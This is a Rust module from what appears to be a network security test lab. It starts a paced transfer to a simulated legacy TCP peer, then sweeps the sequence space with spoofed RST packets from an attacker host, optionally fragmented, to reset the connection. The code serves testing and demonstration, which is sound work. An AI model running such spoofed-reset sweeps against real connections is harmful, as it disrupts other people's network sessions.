//! The legacy-stack scenario that both the network test and `cargo xtask
//! demo` run: a transfer to the smoltcp peer, and a blind sweep of the
//! sequence space at it.

use std::{
    net::SocketAddr,
    thread,
    time::{Duration, Instant},
};

use crate::{
    fragments::Cut,
    legacy::{LegacyPeer, WINDOW},
    routed::{Routed, CLIENT, LEGACY},
    spoof::sweep_cut,
    LiveTransfer,
};

/// The legacy peer's port.
pub const LEGACY_PORT: u16 = 9000;
/// The transfer's pace: 4 KiB every 4 ms (about 1 MB/s), slow enough for
/// the window to stand nearly still during a sweep.
pub const PACE: (usize, u64) = (4096, 4);
/// RSTs half a window apart: every window position is hit at least once.
pub const STEP: u32 = (WINDOW / 2) as u32;

/// A transfer from the client to the legacy peer, flowing.
pub fn start_transfer(lab: &Routed, peer: &LegacyPeer) -> LiveTransfer {
    let addr = SocketAddr::new(LEGACY.parse().unwrap(), LEGACY_PORT);
    let before = peer
        .stats
        .accepted
        .load(std::sync::atomic::Ordering::Relaxed);
    let t = LiveTransfer::to(&lab.client, addr, PACE);
    let deadline = Instant::now() + Duration::from_secs(10);
    while peer.received() == 0
        || peer
            .stats
            .accepted
            .load(std::sync::atomic::Ordering::Relaxed)
            == before
    {
        assert!(
            Instant::now() < deadline,
            "the legacy peer receives nothing"
        );
        thread::sleep(Duration::from_millis(20));
    }
    t
}

/// What a sweep did.
pub struct Sweep {
    pub sent: u64,
    /// Whether the peer's connection was reset.
    pub reset: bool,
}

/// Sweeps the sequence space (up to `rounds` times, stopping at a reset)
/// with RSTs spoofed as the client, from the attacker.
pub fn sweep_attack(lab: &Routed, peer: &LegacyPeer, client_port: u16, rounds: u32) -> Sweep {
    sweep_attack_cut(lab, peer, client_port, rounds, None)
}

/// [`sweep_attack`], with every RST cut into IP fragments when `cut` is
/// some.
pub fn sweep_attack_cut(
    lab: &Routed,
    peer: &LegacyPeer,
    client_port: u16,
    rounds: u32,
    cut: Option<Cut>,
) -> Sweep {
    let src = CLIENT.addr(false, client_port);
    let dst = SocketAddr::new(LEGACY.parse().unwrap(), LEGACY_PORT);
    let resets = peer.resets();
    let mut sent = 0;
    for round in 0..rounds {
        let start = round.wrapping_mul(STEP / 3);
        sent += sweep_cut(&lab.attacker, src, dst, STEP, start, cut);
        thread::sleep(Duration::from_millis(300));
        if peer.resets() > resets {
            return Sweep { sent, reset: true };
        }
    }
    Sweep { sent, reset: false }
}
